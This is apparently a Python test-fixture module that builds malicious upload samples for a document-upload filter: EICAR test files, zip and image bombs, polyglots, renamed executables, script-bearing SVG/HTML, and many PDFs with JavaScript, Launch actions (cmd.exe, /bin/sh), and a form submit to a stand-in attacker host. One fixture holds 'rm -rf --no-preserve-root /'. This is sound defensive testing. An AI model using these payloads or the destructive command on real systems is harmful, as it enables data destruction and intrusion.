"""Test files, built on the fly: harmless photos and PDFs, and the malicious-file corpus.

Nothing here is real malware: the "virus" is the EICAR test string, which every scanner detects
by agreement (assembled from parts, so this source file itself is not flagged).
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageDraw

EICAR_MARK = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"


def eicar() -> bytes:
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR_MARK + b"!$H+H*"


def eicar_md5() -> str:
    return hashlib.md5(eicar()).hexdigest()  # noqa: S324 - the signature format wants MD5


def eicar_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("rechnung.pdf", eicar())
    return out.getvalue()


def photo(
    width=1200, height=1600, *, text="Seite 1", orientation=None, gps=True, fmt="JPEG", quality=80
) -> bytes:
    """A "photograph" of a document page: some text and noise, optionally rotated via EXIF and
    with a GPS position in its metadata."""
    image = Image.new("RGB", (width, height), (235, 232, 225))
    draw = ImageDraw.Draw(image)
    for y in range(40, height - 40, 48):
        draw.line([(60, y), (width - 60, y)], fill=(90, 90, 90), width=3)
    draw.text((80, 80), text, fill=(0, 0, 0))
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
    exif[0x010F] = "TestCam"
    out = io.BytesIO()
    if fmt == "JPEG":
        image.save(out, "JPEG", quality=quality, exif=exif)
    else:
        image.save(out, fmt, exif=exif)
    return out.getvalue()


def big_photo(megabytes: int = 20) -> bytes:
    """A JPEG of just under ``megabytes`` MB (noise does not compress)."""
    import math
    import os

    def encode(side: int) -> bytes:
        image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
        out = io.BytesIO()
        image.save(out, "JPEG", quality=95)
        return out.getvalue()

    probe = 1000
    per_pixel = len(encode(probe)) / probe**2
    side = int(math.sqrt(megabytes * 1024 * 1024 * 0.97 / per_pixel))
    return encode(side)


def simple_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
        )
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["anhang.txt"] = pikepdf.AttachedFileSpec(pdf, b"hallo")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    return out.getvalue()


def broken_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\n" + b"\x00garbage" * 50


def bomb_png(width=20000, height=20000) -> bytes:
    """A PNG of a few kB that would decode to 400 megapixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!I", len(data))
            + kind
            + data
            + struct.pack("!I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def polyglot_jpeg_zip() -> bytes:
    """A valid JPEG with a ZIP archive appended: opens as a photo and as an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("versteckt.html", "<script>alert(1)</script>")
    return photo(400, 300, gps=False) + out.getvalue()


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10"><script>alert(document.cookie)</script><rect width="10" '
        b'height="10"/></svg>\n'
    )


def exe_renamed() -> bytes:
    """A minimal Windows PE header (never runnable) — sent as "bescheid.pdf"."""
    dos = bytearray(b"MZ" + b"\x90\x00" * 29)
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"\x00" * (0x80 - len(dos))
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + pe + b"\x00" * 512


def oversize(limit_mb: int) -> bytes:
    return b"\xff\xd8\xff\xe0" + b"\x00" * (limit_mb * 1024 * 1024 + 10)


MALICIOUS = {
    # name → (file name as sent, builder, expected rejection code)
    "eicar": ("rechnung.pdf", eicar, "virus"),
    "eicar_zip": ("unterlagen.zip", eicar_zip, "virus"),
    "bomb_png": ("scan.png", bomb_png, "image_too_large"),
    "polyglot": ("foto.jpg", polyglot_jpeg_zip, "polyglot"),
    "pdf_javascript": ("bescheid.pdf", pdf_with_javascript, "pdf_javascript"),
    "svg_script": ("bild.svg", svg_with_script, "svg"),
    "exe_as_pdf": ("bescheid.pdf", exe_renamed, "executable"),
    "empty": ("leer.pdf", lambda: b"", "empty"),
    "pdf_attachment": ("kontoauszug.pdf", pdf_with_attachment, "pdf_embedded"),
    "pdf_encrypted": ("lohn.pdf", encrypted_pdf, "pdf_encrypted"),
    "pdf_broken": ("mietvertrag.pdf", broken_pdf, "pdf_broken"),
}


# --- the hostile-upload corpus ----------------------------------------------------------------
#
# Every class of file an attacker (or a confused scanner app) might send, built here so nothing
# binary is committed. ``HOSTILE`` maps a key to (file name as sent, builder, expectation):
# a rejection code (refused on upload with that code's message), ``DISARMED`` (accepted, and the
# stored PDF has no active content left) or ``HANDLED`` (malformed input: refused on upload, or
# refused by the background job with a message, or accepted and clean — never a server error).

DISARMED = "disarmed"
HANDLED = "handled"
Name = pikepdf.Name


def _saved(pdf: pikepdf.Pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _pdf_with(build, **save) -> bytes:
    """A one-page PDF (a line of text) changed by ``build(pdf, page)``."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 760 Td (Kontoauszug) Tj ET")
    build(pdf, page)
    return _saved(pdf, **save)


def _js(code: str = "app.alert('hallo')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=Name.Action, S=Name.JavaScript, JS=pikepdf.String(code))


def _action(kind: str, **entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=Name.Action, S=Name("/" + kind), **entries)


def _link(action, rect=(72, 700, 300, 730)) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=list(rect), Border=[0, 0, 0], A=action
    )


def _annots(page, *annots) -> None:
    page.Annots = pikepdf.Array(list(annots))


def _set(**catalog):
    def build(pdf, page):
        for key, value in catalog.items():
            pdf.Root[Name("/" + key)] = value(pdf, page) if callable(value) else value

    return build


def _embedded_file(pdf) -> pikepdf.Dictionary:
    data = pdf.make_stream(b"MZ not really a program")
    data.Type = Name.EmbeddedFile
    return pikepdf.Dictionary(
        Type=Name.Filespec,
        F=pikepdf.String("rechnung.exe"),
        UF=pikepdf.String("rechnung.exe"),
        EF=pikepdf.Dictionary(F=data),
    )


def _widget(pdf, page, **extra) -> pikepdf.Dictionary:
    appearance = pdf.make_stream(
        b"0 0 1 rg 0 0 200 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20]
    )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=pikepdf.String("name"),
            V=pikepdf.String("Kim Musterfrau"),
            Rect=[72, 600, 272, 620],
            P=page.obj,
            AP=pikepdf.Dictionary(N=appearance),
            F=4,
            **extra,
        )
    )
    _annots(page, field)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], DA=pikepdf.String("/Helv 0 Tf 0 g"))
    return field


def pdf_js_openaction_inline() -> bytes:
    return _pdf_with(_set(OpenAction=_js()))


def pdf_js_openaction_indirect() -> bytes:
    return _pdf_with(_set(OpenAction=lambda pdf, page: pdf.make_indirect(_js())))


def pdf_js_openaction_stream() -> bytes:
    def build(pdf, page):
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=Name.JavaScript, JS=pdf.make_stream(b"app.launchURL('http://x.invalid')")
        )

    return _pdf_with(build)


def pdf_js_hex_encoded_name() -> bytes:
    """``/S /Java#53cript``: the same name, spelled with a hex escape."""
    raw = pdf_js_openaction_inline()
    assert b"/S /JavaScript" in raw
    return raw.replace(b"/S /JavaScript", b"/S/Java#53cript")


def pdf_js_next_chain() -> bytes:
    """A harmless GoTo whose ``/Next`` runs JavaScript."""

    def build(pdf, page):
        pdf.Root.OpenAction = _action("GoTo", D=[page.obj, Name.Fit], Next=_js())

    return _pdf_with(build)


def pdf_js_catalog_aa() -> bytes:
    return _pdf_with(_set(AA=pikepdf.Dictionary(WC=_js(), WP=_js())))


def pdf_js_page_aa_inline() -> bytes:
    def build(pdf, page):
        page.AA = pikepdf.Dictionary(O=_js())

    return _pdf_with(build)


def pdf_js_page_aa_indirect() -> bytes:
    def build(pdf, page):
        page.AA = pdf.make_indirect(pikepdf.Dictionary(C=pdf.make_indirect(_js())))

    return _pdf_with(build)


def pdf_js_link_inline() -> bytes:
    return _pdf_with(lambda pdf, page: _annots(page, _link(_js())))


def pdf_js_link_indirect() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(page, pdf.make_indirect(_link(pdf.make_indirect(_js()))))
    )


def pdf_js_annotation_aa() -> bytes:
    def build(pdf, page):
        link = _link(_action("GoTo", D=[page.obj, Name.Fit]))
        link.AA = pikepdf.Dictionary(E=_js())  # runs when the mouse enters the link
        _annots(page, link)

    return _pdf_with(build)


def pdf_launch_link_inline() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            _link(
                _action(
                    "Launch",
                    F=pikepdf.String("cmd.exe"),
                    Win=pikepdf.Dictionary(
                        F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")
                    ),
                )
            ),
        )
    )


def pdf_launch_link_indirect() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            pdf.make_indirect(
                _link(pdf.make_indirect(_action("Launch", F=pikepdf.String("/bin/sh"))))
            ),
        )
    )


def pdf_launch_openaction() -> bytes:
    return _pdf_with(_set(OpenAction=_action("Launch", F=pikepdf.String("calc.exe"))))


def pdf_uri_file() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page, _link(_action("URI", URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")))
        )
    )


def pdf_uri_javascript() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page, _link(_action("URI", URI=pikepdf.String("javascript:alert(document.cookie)")))
        )
    )


def pdf_submitform_widget() -> bytes:
    return _pdf_with(
        lambda pdf, page: _widget(
            pdf,
            page,
            A=_action("SubmitForm", F=pikepdf.String("https://angreifer.invalid/sammeln"), Flags=4),
        )
    )


def pdf_importdata_link() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(page, _link(_action("ImportData", F=pikepdf.String("daten.fdf"))))
    )


def pdf_gotor_link() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            _link(
                _action(
                    "GoToR",
                    F=pikepdf.String("\\\\angreifer.invalid\\share\\x.pdf"),
                    D=[0, Name.Fit],
                )
            ),
        )
    )


def pdf_gotoe_openaction() -> bytes:
    return _pdf_with(
        _set(
            OpenAction=_action(
                "GoToE", D=[0, Name.Fit], T=pikepdf.Dictionary(R=Name.C, N=pikepdf.String("a"))
            )
        )
    )


def pdf_field_aa_keystroke() -> bytes:
    return _pdf_with(
        lambda pdf, page: _widget(
            pdf, page, AA=pikepdf.Dictionary(K=_js("event.rc = true; app.alert(1)"), F=_js())
        )
    )


def pdf_acroform_xfa() -> bytes:
    def build(pdf, page):
        _widget(pdf, page)
        pdf.Root.AcroForm.XFA = pdf.make_stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script '
            b'contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>'
        )

    return _pdf_with(build)


def pdf_names_javascript() -> bytes:
    return _pdf_with(
        _set(
            Names=lambda pdf, page: pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(
                    Names=[pikepdf.String("start"), pdf.make_indirect(_js())]
                )
            )
        )
    )


def pdf_outline_js() -> bytes:
    def build(pdf, page):
        outlines = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines, Count=1))
        item = pdf.make_indirect(
            pikepdf.Dictionary(Title=pikepdf.String("Seite 1"), Parent=outlines, A=_js())
        )
        outlines.First = outlines.Last = item
        pdf.Root.Outlines = outlines

    return _pdf_with(build)


def pdf_rendition_screen() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            pikepdf.Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=[0, 0, 10, 10],
                A=_action("Rendition", OP=0, JS=pikepdf.String("app.alert(1)")),
            ),
        )
    )


def pdf_js_in_object_stream() -> bytes:
    return _pdf_with(
        _set(OpenAction=lambda pdf, page: pdf.make_indirect(_js())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def pdf_js_incremental_update() -> bytes:
    """A clean PDF with an incremental update that rewrites the catalog to open JavaScript."""
    raw = simple_pdf()
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        root, pages = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0]
        size = int(pdf.trailer.Size)
    start = raw.rindex(b"startxref")
    previous = int(raw[start + len(b"startxref") :].split()[0])
    catalog = (
        f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {size} 0 R >>\nendobj\n"
    ).encode()
    action = f"{size} 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n".encode()
    body = raw + b"\n"
    offsets = {root: len(body), size: len(body) + len(catalog)}
    body += catalog + action
    xref = len(body)
    body += (
        f"xref\n{root} 1\n{offsets[root]:010d} 00000 n \n{size} 1\n{offsets[size]:010d} "
        f"00000 n \ntrailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\n"
        f"startxref\n{xref}\n%%EOF\n"
    ).encode()
    return body


def pdf_file_attachment_annotation() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            pikepdf.Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=[0, 0, 20, 20],
                FS=_embedded_file(pdf),
            ),
        )
    )


def pdf_associated_file() -> bytes:
    def build(pdf, page):
        page.AF = pikepdf.Array([pdf.make_indirect(_embedded_file(pdf))])

    return _pdf_with(build)


def pdf_richmedia() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page,
            pikepdf.Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=[0, 0, 100, 100],
                RichMediaContent=pikepdf.Dictionary(
                    Assets=pikepdf.Dictionary(
                        Names=[pikepdf.String("film.swf"), _embedded_file(pdf)]
                    )
                ),
            ),
        )
    )


def pdf_3d_annotation() -> bytes:
    def build(pdf, page):
        model = pdf.make_stream(b"U3D\x00", Type=Name("/3D"), Subtype=Name("/U3D"))
        _annots(
            page,
            pikepdf.Dictionary(
                Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 100, 100], **{"/3DD": model}
            ),
        )

    return _pdf_with(build)


# Accepted, and the stored copy has nothing of it left.
def pdf_link_https() -> bytes:
    return _pdf_with(
        lambda pdf, page: _annots(
            page, _link(_action("URI", URI=pikepdf.String("https://www.arbeitsagentur.de/")))
        )
    )


def pdf_filled_form() -> bytes:
    return _pdf_with(lambda pdf, page: _widget(pdf, page))


def pdf_goto_openaction() -> bytes:
    return _pdf_with(
        lambda pdf, page: pdf.Root.__setattr__("OpenAction", pikepdf.Array([page.obj, Name.Fit]))
    )


def pdf_owner_password_only() -> bytes:
    """Encrypted with an owner password only: opens without one (print/copy limits)."""
    return _pdf_with(
        lambda pdf, page: None,
        encryption=pikepdf.Encryption(
            user="", owner="geheim", allow=pikepdf.Permissions(extract=False)
        ),
    )


def pdf_page_extras() -> bytes:
    """Thumbnail, private application data and an inherited resource dictionary."""

    def build(pdf, page):
        page.PieceInfo = pikepdf.Dictionary(Acme=pikepdf.Dictionary(Private=pikepdf.String("x")))
        page.Thumb = pdf.make_stream(
            b"\x00" * 12, Width=2, Height=2, BitsPerComponent=8, ColorSpace=Name.DeviceRGB
        )
        pdf.Root.Pages.Resources = page.Resources
        del page.obj["/Resources"]

    return _pdf_with(build)


# Encrypted and malformed PDFs.
def encrypted_pdf_aes256() -> bytes:
    return _pdf_with(
        lambda pdf, page: None, encryption=pikepdf.Encryption(user="geheim", owner="geheim", R=6)
    )


def truncated_pdf() -> bytes:
    raw = simple_pdf(3)
    return raw[: len(raw) // 2]


def pdf_header_only() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf_page_tree_loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
    )


def pdf_deep_nesting() -> bytes:
    deep = b"[" * 20000 + b"]" * 20000
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + deep + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n"
    )


def pdf_garbage_xref() -> bytes:
    raw = simple_pdf()
    start = raw.rindex(b"xref")
    return raw[:start] + b"xref\n0 9999999\n" + b"\xff" * 200 + raw[raw.rindex(b"trailer") :]


def pdf_huge_count() -> bytes:
    raw = simple_pdf()
    return raw.replace(b"/Count 1", b"/Count 2147483647")


def pdf_with_eicar_stream() -> bytes:
    def build(pdf, page):
        page.Contents = pdf.make_stream(b"% " + eicar() + b"\n")

    return _pdf_with(build, compress_streams=False)


# Images.
def jpeg_huge_dimensions() -> bytes:
    """A small JPEG whose header claims 65 000 × 65 000 pixels."""
    raw = bytearray(photo(64, 64, gps=False))
    sof = next(i for i in range(len(raw) - 1) if raw[i] == 0xFF and raw[i + 1] in (0xC0, 0xC2))
    raw[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(raw)


def tiff_huge_dimensions() -> bytes:
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, "TIFF")
    raw = bytearray(out.getvalue())
    image = Image.open(io.BytesIO(bytes(raw)))
    assert image.size == (8, 8)
    # Rewrite the width and height tags (256, 257) of the first IFD to 200 000.
    offset = struct.unpack("<I", raw[4:8])[0]
    count = struct.unpack("<H", raw[offset : offset + 2])[0]
    for n in range(count):
        entry = offset + 2 + 12 * n
        tag, kind = struct.unpack("<HH", raw[entry : entry + 4])
        if tag in (256, 257):
            fmt = "<H" if kind == 3 else "<I"
            raw[entry + 8 : entry + 8 + struct.calcsize(fmt)] = struct.pack(fmt, 60000)
    return bytes(raw)


def truncated_jpeg() -> bytes:
    raw = photo(800, 1000, gps=False)
    return raw[: len(raw) // 2]


def truncated_png() -> bytes:
    raw = photo(400, 500, gps=False, fmt="PNG")
    return raw[: len(raw) // 2]


def png_bad_crc() -> bytes:
    raw = bytearray(photo(100, 100, gps=False, fmt="PNG"))
    idat = raw.index(b"IDAT")
    raw[idat + 10] ^= 0xFF
    return bytes(raw)


# Archives, polyglots, markup, programs.
def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def plain_zip() -> bytes:
    return _zip({"kontoauszug.pdf": simple_pdf()})


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(simple_pdf())


def tar_file() -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        data = simple_pdf()
        info = tarfile.TarInfo("kontoauszug.pdf")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def seven_zip_header() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 200


def zip_bomb() -> bytes:
    """42.zip in miniature: 100 MB of zeros compressed to ~100 kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("null.pdf", b"\x00" * (100 * 1024 * 1024))
    return out.getvalue()


def polyglot_pdf_zip() -> bytes:
    return simple_pdf() + _zip({"versteckt.exe": exe_renamed()})


def polyglot_png_zip() -> bytes:
    return photo(100, 100, gps=False, fmt="PNG") + _zip({"a.html": b"<script>x</script>"})


def polyglot_html_in_jpeg_comment() -> bytes:
    """A JPEG with an HTML comment segment: fine as a photo, re-encoded without it."""
    raw = photo(200, 200, gps=False)
    comment = b"<html><script>alert(document.domain)</script></html>"
    return raw[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + raw[2:]


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Bescheid</title></head><body>"
        b"<script>fetch('/backoffice/')</script></body></html>"
    )


def xhtml_page() -> bytes:
    return (
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
        b"<script>alert(1)</script></body></html>"
    )


def svg_onload() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="1" height="1"/>'


def elf_renamed() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf --no-preserve-root /\n"


def text_file() -> bytes:
    return b"Sehr geehrte Damen und Herren,\nanbei mein Kontoauszug.\n"


def eicar_in_jpeg() -> bytes:
    return photo(100, 100, gps=False) + eicar()


HOSTILE = {
    # viruses (the EICAR test signature) in several wrappings
    "eicar": ("rechnung.pdf", eicar, "virus"),
    "eicar_zip": ("unterlagen.zip", eicar_zip, "virus"),
    "eicar_in_jpeg": ("foto.jpg", eicar_in_jpeg, "virus"),
    "eicar_in_pdf_stream": ("bescheid.pdf", pdf_with_eicar_stream, "virus"),
    # archives and decompression bombs
    "zip": ("unterlagen.zip", plain_zip, "archive"),
    "zip_as_pdf": ("kontoauszug.pdf", plain_zip, "archive"),
    "zip_bomb": ("scan.pdf", zip_bomb, "archive"),
    "gzip": ("scan.pdf.gz", gzip_file, "archive"),
    "tar": ("scan.tar", tar_file, "archive"),
    "7z": ("scan.7z", seven_zip_header, "archive"),
    "png_bomb": ("scan.png", bomb_png, "image_too_large"),
    "jpeg_huge_dimensions": ("foto.jpg", jpeg_huge_dimensions, "image_too_large"),
    "tiff_huge_dimensions": ("scan.tif", tiff_huge_dimensions, "image_too_large"),
    # polyglots
    "polyglot_jpeg_zip": ("foto.jpg", polyglot_jpeg_zip, "polyglot"),
    "polyglot_pdf_zip": ("bescheid.pdf", polyglot_pdf_zip, "polyglot"),
    "polyglot_png_zip": ("scan.png", polyglot_png_zip, "polyglot"),
    "jpeg_with_html_comment": ("foto.jpg", polyglot_html_in_jpeg_comment, DISARMED),
    # markup and programs
    "svg_script": ("bild.svg", svg_with_script, "svg"),
    "svg_onload_as_png": ("bild.png", svg_onload, "svg"),
    "html": ("bescheid.pdf", html_page, "html"),
    "xhtml": ("bescheid.html", xhtml_page, "html"),
    "exe_as_pdf": ("bescheid.pdf", exe_renamed, "executable"),
    "exe_as_jpg": ("foto.jpg", exe_renamed, "executable"),
    "elf_as_pdf": ("bescheid.pdf", elf_renamed, "executable"),
    "shell_script": ("bescheid.pdf", shell_script, "executable"),
    "text": ("brief.txt", text_file, "type"),
    "empty": ("leer.pdf", lambda: b"", "empty"),
    # PDFs with active content, inline and indirect, wherever it can sit
    "pdf_js_openaction_inline": ("a.pdf", pdf_js_openaction_inline, "pdf_javascript"),
    "pdf_js_openaction_indirect": ("a.pdf", pdf_js_openaction_indirect, "pdf_javascript"),
    "pdf_js_openaction_stream": ("a.pdf", pdf_js_openaction_stream, "pdf_javascript"),
    "pdf_js_hex_encoded_name": ("a.pdf", pdf_js_hex_encoded_name, "pdf_javascript"),
    "pdf_js_next_chain": ("a.pdf", pdf_js_next_chain, "pdf_javascript"),
    "pdf_js_catalog_aa": ("a.pdf", pdf_js_catalog_aa, "pdf_javascript"),
    "pdf_js_page_aa_inline": ("a.pdf", pdf_js_page_aa_inline, "pdf_javascript"),
    "pdf_js_page_aa_indirect": ("a.pdf", pdf_js_page_aa_indirect, "pdf_javascript"),
    "pdf_js_link_inline": ("a.pdf", pdf_js_link_inline, "pdf_javascript"),
    "pdf_js_link_indirect": ("a.pdf", pdf_js_link_indirect, "pdf_javascript"),
    "pdf_js_annotation_aa": ("a.pdf", pdf_js_annotation_aa, "pdf_javascript"),
    "pdf_js_field_keystroke": ("a.pdf", pdf_field_aa_keystroke, "pdf_javascript"),
    "pdf_js_names_tree": ("a.pdf", pdf_names_javascript, "pdf_javascript"),
    "pdf_js_outline": ("a.pdf", pdf_outline_js, "pdf_javascript"),
    "pdf_js_object_stream": ("a.pdf", pdf_js_in_object_stream, "pdf_javascript"),
    "pdf_js_incremental_update": ("a.pdf", pdf_js_incremental_update, "pdf_javascript"),
    "pdf_launch_link_inline": ("a.pdf", pdf_launch_link_inline, "pdf_javascript"),
    "pdf_launch_link_indirect": ("a.pdf", pdf_launch_link_indirect, "pdf_javascript"),
    "pdf_launch_openaction": ("a.pdf", pdf_launch_openaction, "pdf_javascript"),
    "pdf_uri_file": ("a.pdf", pdf_uri_file, "pdf_javascript"),
    "pdf_uri_javascript": ("a.pdf", pdf_uri_javascript, "pdf_javascript"),
    "pdf_submitform": ("a.pdf", pdf_submitform_widget, "pdf_javascript"),
    "pdf_importdata": ("a.pdf", pdf_importdata_link, "pdf_javascript"),
    "pdf_gotor": ("a.pdf", pdf_gotor_link, "pdf_javascript"),
    "pdf_gotoe": ("a.pdf", pdf_gotoe_openaction, "pdf_javascript"),
    "pdf_rendition": ("a.pdf", pdf_rendition_screen, "pdf_javascript"),
    "pdf_xfa": ("a.pdf", pdf_acroform_xfa, "pdf_javascript"),
    "pdf_embedded_names": ("a.pdf", pdf_with_attachment, "pdf_embedded"),
    "pdf_file_attachment_annotation": ("a.pdf", pdf_file_attachment_annotation, "pdf_embedded"),
    "pdf_associated_file": ("a.pdf", pdf_associated_file, "pdf_embedded"),
    "pdf_richmedia": ("a.pdf", pdf_richmedia, "pdf_embedded"),
    "pdf_3d": ("a.pdf", pdf_3d_annotation, "pdf_embedded"),
    # PDFs that are accepted: the stored copy keeps the pages and nothing else
    "pdf_link_https": ("a.pdf", pdf_link_https, DISARMED),
    "pdf_filled_form": ("a.pdf", pdf_filled_form, DISARMED),
    "pdf_goto_openaction": ("a.pdf", pdf_goto_openaction, DISARMED),
    "pdf_owner_password_only": ("a.pdf", pdf_owner_password_only, DISARMED),
    "pdf_page_extras": ("a.pdf", pdf_page_extras, DISARMED),
    # encrypted and malformed PDFs, broken images
    "pdf_encrypted": ("lohn.pdf", encrypted_pdf, "pdf_encrypted"),
    "pdf_encrypted_aes256": ("lohn.pdf", encrypted_pdf_aes256, "pdf_encrypted"),
    "pdf_broken": ("a.pdf", broken_pdf, "pdf_broken"),
    "pdf_header_only": ("a.pdf", pdf_header_only, "pdf_broken"),
    "pdf_truncated": ("a.pdf", truncated_pdf, HANDLED),
    "pdf_page_tree_loop": ("a.pdf", pdf_page_tree_loop, HANDLED),
    "pdf_deep_nesting": ("a.pdf", pdf_deep_nesting, HANDLED),
    "pdf_garbage_xref": ("a.pdf", pdf_garbage_xref, HANDLED),
    "pdf_huge_count": ("a.pdf", pdf_huge_count, HANDLED),
    "jpeg_truncated": ("foto.jpg", truncated_jpeg, HANDLED),
    "png_truncated": ("scan.png", truncated_png, HANDLED),
    "png_bad_crc": ("scan.png", png_bad_crc, HANDLED),
}
